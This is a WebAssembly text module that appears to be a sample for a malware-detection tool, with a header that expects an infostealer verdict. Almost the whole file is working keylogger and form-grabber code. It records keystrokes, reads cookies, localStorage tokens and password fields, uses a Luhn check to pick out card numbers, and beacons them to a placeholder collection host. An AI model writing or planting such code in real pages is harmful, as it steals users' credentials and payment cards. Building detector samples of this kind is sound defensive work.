;; RUN: spoor trace % --invoke main --json
;; WHAT: Keylogger and form grabber: keeps keystrokes and form fields, picks card numbers by their check digit
;;   and sends them with a beacon.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS family=infostealer rule=browser/ status=exited
(module
  (import "env" "document.addEventListener" (func $listen (param i32 i32 i32)))
  (import "env" "document.querySelectorAll" (func $query (param i32 i32) (result i32)))
  (import "env" "document.cookie" (func $cookie (param i32 i32) (result i32)))
  (import "env" "localStorage.getItem" (func $storage (param i32 i32 i32 i32) (result i32)))
  (import "env" "navigator.sendBeacon" (func $beacon (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (table (export "__indirect_function_table") 3 funcref)
  (elem (i32.const 0) $keydown $submit $unload)
  (global $used (mut i32) (i32.const 0))
  (func $keep (param $c i32)
    (i32.store8 offset=4096 (global.get $used) (local.get $c))
    (global.set $used (i32.and (i32.add (global.get $used) (i32.const 1)) (i32.const 4095))))
  ;; Printable keys as they are, the others as a mark and their code.
  (func $keydown (export "onkeydown") (param $code i32)
    (if (i32.lt_u (i32.sub (local.get $code) (i32.const 32)) (i32.const 95))
      (then (call $keep (local.get $code)))
      (else
        (call $keep (i32.const 94))
        (call $keep (i32.add (i32.const 64) (i32.and (local.get $code) (i32.const 31)))))))
  ;; Luhn's check over the digits of a text.
  (func $luhn (param $p i32) (param $n i32) (result i32) (local $sum i32) (local $d i32) (local $double i32) (local $digits i32)
    (block $done
      (loop $back
        (br_if $done (i32.eqz (local.get $n)))
        (local.set $n (i32.sub (local.get $n) (i32.const 1)))
        (local.set $d (i32.sub (i32.load8_u (i32.add (local.get $p) (local.get $n))) (i32.const 48)))
        (br_if $back (i32.gt_u (local.get $d) (i32.const 9)))
        (local.set $digits (i32.add (local.get $digits) (i32.const 1)))
        (if (local.get $double)
          (then
            (local.set $d (i32.shl (local.get $d) (i32.const 1)))
            (if (i32.gt_u (local.get $d) (i32.const 9)) (then (local.set $d (i32.sub (local.get $d) (i32.const 9)))))))
        (local.set $double (i32.xor (local.get $double) (i32.const 1)))
        (local.set $sum (i32.add (local.get $sum) (local.get $d)))
        (br $back)))
    (i32.and (i32.eqz (i32.rem_u (local.get $sum) (i32.const 10))) (i32.ge_u (local.get $digits) (i32.const 13))))
  (func $exfiltrate (param $p i32) (param $n i32)
    (drop (call $beacon (i32.const 64) (i32.const 36) (local.get $p) (local.get $n))))
  (func $submit (export "onsubmit") (param $p i32) (param $n i32)
    (if (call $luhn (local.get $p) (local.get $n))
      (then (call $exfiltrate (local.get $p) (local.get $n)))))
  (func $unload (export "onunload")
    (if (global.get $used) (then (call $exfiltrate (i32.const 4096) (global.get $used)))))
  (func (export "main") (local $i i32) (local $n i32)
    (call $listen (i32.const 128) (i32.const 7) (i32.const 0))
    (call $listen (i32.const 135) (i32.const 6) (i32.const 1))
    (call $listen (i32.const 141) (i32.const 12) (i32.const 2))
    (drop (call $query (i32.const 153) (i32.const 20)))
    (drop (call $storage (i32.const 173) (i32.const 5) (i32.const 2048) (i32.const 256)))
    (local.set $n (call $cookie (i32.const 1024) (i32.const 512)))
    ;; A trial with a test number that no bank gives out, and with some keys.
    (loop $key
      (call $keydown (i32.load8_u offset=256 (local.get $i)))
      (br_if $key (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 20))))
    (call $submit (i32.const 288) (i32.const 19))
    (call $unload))
  (data (i32.const 64) "https://collect.example.invalid/j.gi")
  (data (i32.const 128) "keydownsubmitbeforeunloadinput[type=password]token")
  (data (i32.const 256) "hunter2\08\08secret\0d\0aok!!")
  (data (i32.const 288) "4111 1111 1111 1111")
)
